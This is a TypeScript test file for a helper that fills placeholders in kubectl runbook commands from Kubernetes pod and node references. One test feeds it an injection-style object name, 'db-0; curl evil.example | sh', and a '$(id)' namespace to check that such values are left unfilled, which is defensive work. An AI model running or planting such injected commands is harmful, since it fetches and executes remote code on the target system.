import { describe, expect, it } from 'vitest';
import { filledFor, withSamples } from './runbook-placeholders.ts';

const pod = { apiVersion: 'v1', kind: 'Pod', namespace: 'cardboard', name: 'db-0' };
const node = { apiVersion: 'v1', kind: 'Node', name: 'worker-1' };

describe('filledFor', () => {
  it.each([
    ['kubectl -n {namespace} describe {kind} {name}', pod, 'kubectl -n cardboard describe pod db-0'],
    [
      'kubectl -n {namespace} logs {pod} -c {container}',
      pod,
      'kubectl -n cardboard logs db-0 -c {container}',
    ],
    ['kubectl -n {namespace} logs {pod}', node, 'kubectl -n {namespace} logs {pod}'],
    [
      'kubectl get pods -n {namespace}',
      { apiVersion: 'v1', kind: 'Namespace', name: 'cardboard' },
      'kubectl get pods -n cardboard',
    ],
    [
      "kubectl get {kind} -o jsonpath='{.items[*].spec}'",
      node,
      "kubectl get node -o jsonpath='{.items[*].spec}'",
    ],
  ])('%s', (line, ref, filled) => {
    expect(filledFor(line, ref)).toBe(filled);
  });

  it('leaves open what a shell would read as more than a name', () => {
    const hostile = { ...pod, name: 'db-0; curl evil.example | sh', namespace: '$(id)' };
    const line = 'kubectl -n {namespace} delete pod {name}';
    expect(filledFor(line, hostile)).toBe(line);
  });
});

it('takes samples for every place that a line leaves open', () => {
  expect(withSamples('kubectl cordon {node} {unheard-of}')).toBe('kubectl cordon worker-1 {unheard-of}');
});
